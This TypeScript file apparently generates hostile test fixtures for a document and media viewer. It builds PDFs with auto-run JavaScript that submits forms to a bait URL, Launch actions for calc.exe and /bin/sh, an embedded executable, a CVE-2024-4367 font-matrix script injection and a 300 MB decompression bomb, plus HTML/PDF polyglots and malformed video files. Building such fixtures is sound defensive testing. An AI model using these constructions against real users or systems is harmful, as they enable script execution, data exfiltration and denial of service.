import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { fromRoot } from '../../build/support/root.ts';
import { inBytes, type Bait, type HostileFile } from './hostile-file.ts';

type Stream = Readonly<{ dictionary: string; data: Uint8Array }>;

/** A PDF of these objects, numbered from 1; the first is its catalogue. */
function pdf(objects: readonly (string | Stream)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\u00E2\u00E3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]!.length;
  const push = (part: Buffer): void => {
    parts.push(part);
    length += part.length;
  };
  for (const [index, object] of objects.entries()) {
    offsets.push(length);
    push(Buffer.from(`${index + 1} 0 obj\n`, 'latin1'));
    if (typeof object === 'string') push(Buffer.from(object, 'latin1'));
    else {
      push(Buffer.from(`<< ${object.dictionary} /Length ${object.data.length} >>\nstream\n`, 'latin1'));
      push(Buffer.from(object.data));
      push(Buffer.from('\nendstream', 'latin1'));
    }
    push(Buffer.from('\nendobj\n', 'latin1'));
  }
  const start = length;
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`,
      'latin1',
    ),
  );
  return Buffer.concat(parts);
}

const content = (data: string): Stream => ({ dictionary: '', data: Buffer.from(data, 'latin1') });
const words = content('BT /F1 24 Tf 40 400 Td (A contract.) Tj ET');
const helvetica = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** One page; `catalogue` and `page` are added to the two dictionaries, `more` follows as objects from number 6. */
const onePage = (catalogue: string, page = '', more: readonly (string | Stream)[] = []): Buffer =>
  pdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 500] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    words,
    helvetica,
    ...more,
  ]);

const annotation = (action: string): string =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 400 500] /A << ${action} >> >>] /AA << /O << ${action} >> >>`;

/** Documents that act, documents that lie, and recordings that never end. */
export function hostileDocuments({ url, script }: Bait): HostileFile[] {
  const document = (name: string, tries: string, bytes: Uint8Array, says?: RegExp): HostileFile =>
    inBytes(name, tries, 'document', 'application/pdf', bytes, says);
  const javascript = (name: string): string =>
    `/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('${url(name)}'\\); ${script(name).replaceAll(/[()\\]/g, '\\$&')})`;
  // CVE-2024-4367: what stands in a font's matrix was once run.
  const matrix = `0 0 0 0 0 (0\\); ${script('pdf-font').replaceAll(/[()\\]/g, '\\$&')} //)`;
  const recording = readFileSync(fromRoot('central/demo/media/wallet.webm'));
  return [
    document(
      'pdf-open-action',
      'runs when it is opened',
      onePage(`/OpenAction << ${javascript('pdf-open-action')} >>`),
    ),
    document(
      'pdf-names-script',
      'runs scripts of its own',
      onePage(`/Names << /JavaScript << /Names [(a) << ${javascript('pdf-names-script')} >>] >> >>`),
    ),
    document(
      'pdf-link',
      'leads elsewhere from anywhere on the page',
      onePage('', annotation(`/S /URI /URI (${url('pdf-link')})`)),
    ),
    document(
      'pdf-launch',
      'starts a program',
      onePage(
        '/OpenAction << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>',
        annotation('/S /Launch /F (/bin/sh)'),
      ),
    ),
    document(
      'pdf-form',
      'sends a form',
      onePage(
        `/AcroForm << /Fields [6 0 R] /XFA 7 0 R >> /OpenAction << /S /SubmitForm /F << /FS /URL /F (${url('pdf-form')}) >> >>`,
        '/Annots [6 0 R]',
        [
          `<< /Type /Annot /Subtype /Widget /FT /Tx /T (pin) /Rect [0 0 90 20] /AA << /K << ${javascript('pdf-form')} >> >> >>`,
          content(
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>${script('pdf-form')}</script><image href="${url('pdf-form')}"/></template></xdp:xdp>`,
          ),
        ],
      ),
    ),
    document(
      'pdf-remote',
      'opens another document',
      onePage(`/OpenAction << /S /GoToR /F << /FS /URL /F (${url('pdf-remote')}) >> /D [0 /Fit] >>`),
    ),
    document(
      'pdf-attachment',
      'carries a program',
      onePage(
        '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>] >> >>',
        '',
        [content('MZ')],
      ),
    ),
    document(
      'pdf-font',
      'runs from the matrix of a font (CVE-2024-4367)',
      pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 500] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
        words,
        `<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FirstChar 32 /LastChar 126 /FontMatrix [${matrix}] /FontDescriptor 6 0 R >>`,
        '<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontFile 7 0 R >>',
        content(
          `%!PS-AdobeFont-1.0: Evil\n/FontMatrix [${matrix}] readonly def\n/Encoding StandardEncoding def\ncurrentfile eexec\n`,
        ),
      ]),
    ),
    document(
      'pdf-bomb',
      'grows to 300 MB when it is read',
      pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 500] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>',
        content('q 400 0 0 500 0 0 cm /I Do Q'),
        {
          dictionary:
            '/Type /XObject /Subtype /Image /Width 20000 /Height 15000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter [/FlateDecode /FlateDecode]',
          data: deflateSync(deflateSync(Buffer.alloc(300_000_000), { level: 1 })),
        },
      ]),
    ),
    document(
      'pdf-many-pages',
      'has 10,000 pages',
      pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        `<< /Type /Pages /Kids [${Array.from({ length: 10_000 }, () => '3 0 R').join(' ')}] /Count 10000 >>`,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 500] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
        words,
        helvetica,
      ]),
      /10,000/,
    ),
    document(
      'pdf-loop',
      'leads back to itself',
      pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 99999999 >>']),
    ),
    document(
      'pdf-and-page',
      'is a document and a page at once',
      Buffer.concat([Buffer.from(`<html><script>${script('pdf-and-page')}</script><!--\n`), onePage('')]),
    ),
    document(
      'page-as-pdf',
      'is a page in the place of a document',
      Buffer.from(`<html><body onload="${script('page-as-pdf')}">`),
      /no document that can be shown/,
    ),
    inBytes('pdf-as-html', 'is a document that calls itself a page', 'document', 'text/html', onePage('')),
    inBytes(
      'page-as-video',
      'is a page in the place of a recording',
      'media',
      'video/mp4',
      Buffer.from(`<html><script>${script('page-as-video')}</script>`),
      /cannot be played/,
    ),
    inBytes(
      'playlist',
      'plays what lies elsewhere',
      'media',
      'application/vnd.apple.mpegurl',
      Buffer.from(
        `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${url('playlist')}"\n#EXTINF:9,\n${url('playlist')}\n`,
      ),
      /cannot be played/,
    ),
    inBytes('endless-video', 'says that it lasts for ever', 'media', 'video/webm', longerThanLife(recording)),
    inBytes('cut-video', 'ends in the middle', 'media', 'video/webm', recording.subarray(0, 3000)),
  ];
}

/** The same recording, saying that it lasts for a thousand years. */
function longerThanLife(recording: Buffer): Buffer {
  const changed = Buffer.from(recording);
  const at = changed.indexOf(Buffer.from([0x44, 0x89]));
  if (at < 0) throw new Error('the recording says nothing of how long it is');
  if (changed[at + 2] === 0x88) changed.writeDoubleBE(3e13, at + 3);
  else changed.writeFloatBE(3e13, at + 3);
  return changed;
}
